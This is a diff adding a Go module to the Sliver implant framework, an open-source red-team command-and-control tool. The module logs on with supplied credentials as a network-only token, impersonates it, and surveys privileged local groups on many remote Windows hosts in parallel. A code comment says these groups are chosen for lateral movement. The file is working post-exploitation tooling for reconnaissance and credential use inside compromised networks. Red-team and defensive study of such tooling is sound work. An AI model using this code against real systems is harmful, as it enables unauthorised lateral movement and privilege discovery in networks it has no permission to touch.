@@ -0,0 +1,235 @@
+//go:build windows
+// +build windows
+
+package priv
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"os"
+	"runtime"
+	"strings"
+	"sync"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+)
+
+const (
+	// Hosts surveyed in parallel, each with its own impersonating thread
+	localGroupWorkers = 8
+)
+
+// DefaultLocalGroups - Well known groups useful for lateral movement, by SID since
+// group names are localized
+var DefaultLocalGroups = []string{
+	"S-1-5-32-544", // Administrators
+	"S-1-5-32-555", // Remote Desktop Users
+	"S-1-5-32-580", // Remote Management Users
+	"S-1-5-32-562", // Distributed COM Users
+	"S-1-5-32-551", // Backup Operators
+}
+
+var sidTypeNames = map[uint32]string{
+	windows.SidTypeUser:           "User",
+	windows.SidTypeGroup:          "Group",
+	windows.SidTypeDomain:         "Domain",
+	windows.SidTypeAlias:          "Alias",
+	windows.SidTypeWellKnownGroup: "WellKnownGroup",
+	windows.SidTypeDeletedAccount: "DeletedAccount",
+	windows.SidTypeInvalid:        "Invalid",
+	windows.SidTypeUnknown:        "Unknown",
+	windows.SidTypeComputer:       "Computer",
+	windows.SidTypeLabel:          "Label",
+}
+
+// LocalGroupInfo - Members of a local group on a host
+type LocalGroupInfo struct {
+	Host    string
+	Name    string
+	SID     string
+	Members []LocalGroupMemberInfo
+	Err     error
+}
+
+// LocalGroupMemberInfo - A member of a local group
+type LocalGroupMemberInfo struct {
+	Name string
+	SID  string
+	Type string
+}
+
+// LogonNetOnly - Create a token with the credentials for use on the network only,
+// like runas /netonly, the credentials are not validated until they're used
+func LogonNetOnly(domain string, username string, password string) (windows.Token, error) {
+	var token windows.Token
+	pd, err := windows.UTF16PtrFromString(domain)
+	if err != nil {
+		return token, err
+	}
+	pu, err := windows.UTF16PtrFromString(username)
+	if err != nil {
+		return token, err
+	}
+	pp, err := windows.UTF16PtrFromString(password)
+	if err != nil {
+		return token, err
+	}
+	err = syscalls.LogonUser(pu, pd, pp, syscalls.LOGON32_LOGON_NEW_CREDENTIALS, syscalls.LOGON32_PROVIDER_WINNT50, &token)
+	return token, err
+}
+
+// LocalGroups - Survey the members of local groups on each host, an empty host is
+// the local machine. Hosts are surveyed as the token if it's not zero.
+func LocalGroups(hosts []string, groups []string, token windows.Token) []*LocalGroupInfo {
+	if len(hosts) == 0 {
+		hosts = []string{""}
+	}
+	defaults := len(groups) == 0
+	if defaults {
+		groups = DefaultLocalGroups
+	}
+
+	results := make([][]*LocalGroupInfo, len(hosts))
+	queue := make(chan int)
+	wg := &sync.WaitGroup{}
+	for worker := 0; worker < localGroupWorkers && worker < len(hosts); worker++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			if token != 0 {
+				// Impersonation only applies to the current thread
+				runtime.LockOSThread()
+				defer runtime.UnlockOSThread()
+				err := syscalls.ImpersonateLoggedOnUser(token)
+				if err != nil {
+					// {{if .Config.Debug}}
+					log.Printf("ImpersonateLoggedOnUser failed: %s", err)
+					// {{end}}
+				}
+				defer windows.RevertToSelf()
+			}
+			for index := range queue {
+				results[index] = hostLocalGroups(hosts[index], groups, defaults)
+			}
+		}()
+	}
+	for index := range hosts {
+		queue <- index
+	}
+	close(queue)
+	wg.Wait()
+
+	localGroups := []*LocalGroupInfo{}
+	for _, hostGroups := range results {
+		localGroups = append(localGroups, hostGroups...)
+	}
+	return localGroups
+}
+
+// hostLocalGroups - Survey the groups on a single host, the other groups are skipped
+// if the host can't be reached. Missing default groups are not an error.
+func hostLocalGroups(host string, groups []string, defaults bool) []*LocalGroupInfo {
+	hostname := host
+	if hostname == "" {
+		hostname, _ = os.Hostname()
+	}
+	localGroups := []*LocalGroupInfo{}
+	for _, group := range groups {
+		localGroup := &LocalGroupInfo{Host: hostname, Name: group}
+		if strings.HasPrefix(strings.ToUpper(group), "S-1-") {
+			localGroup.SID = group
+			localGroup.Name, localGroup.Err = lookupGroupSID(host, group)
+		}
+		if localGroup.Err == nil {
+			localGroup.Members, localGroup.Err = localGroupMembers(host, localGroup.Name)
+		}
+		if localGroup.Err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("Failed to survey %s on %s: %s", group, hostname, localGroup.Err)
+			// {{end}}
+			if isGroupNotFound(localGroup.Err) {
+				if !defaults {
+					localGroups = append(localGroups, localGroup)
+				}
+				continue
+			}
+			return append(localGroups, localGroup)
+		}
+		localGroups = append(localGroups, localGroup)
+	}
+	return localGroups
+}
+
+func isGroupNotFound(err error) bool {
+	return err == windows.ERROR_NONE_MAPPED || err == windows.Errno(syscalls.NERR_GroupNotFound)
+}
+
+// lookupGroupSID - The local name of a well known group on the host
+func lookupGroupSID(host string, sid string) (string, error) {
+	groupSID, err := windows.StringToSid(sid)
+	if err != nil {
+		return "", err
+	}
+	name, _, _, err := groupSID.LookupAccount(host)
+	return name, err
+}
+
+func localGroupMembers(host string, group string) ([]LocalGroupMemberInfo, error) {
+	var serverName *uint16
+	if host != "" {
+		var err error
+		serverName, err = windows.UTF16PtrFromString(`\\` + strings.TrimPrefix(host, `\\`))
+		if err != nil {
+			return nil, err
+		}
+	}
+	groupName, err := windows.UTF16PtrFromString(group)
+	if err != nil {
+		return nil, err
+	}
+
+	var buf *byte
+	var entriesRead, totalEntries uint32
+	err = syscalls.NetLocalGroupGetMembers(serverName, groupName, 2, &buf, syscalls.MAX_PREFERRED_LENGTH, &entriesRead, &totalEntries, nil)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.NetApiBufferFree(buf)
+
+	members := []LocalGroupMemberInfo{}
+	entries := unsafe.Slice((*syscalls.LOCALGROUP_MEMBERS_INFO_2)(unsafe.Pointer(buf)), entriesRead)
+	for _, entry := range entries {
+		member := LocalGroupMemberInfo{
+			Name: windows.UTF16PtrToString(entry.DomainAndName),
+			Type: sidTypeNames[entry.SidUsage],
+		}
+		if entry.Sid != nil {
+			member.SID = entry.Sid.String()
+		}
+		members = append(members, member)
+	}
+	return members, nil
+}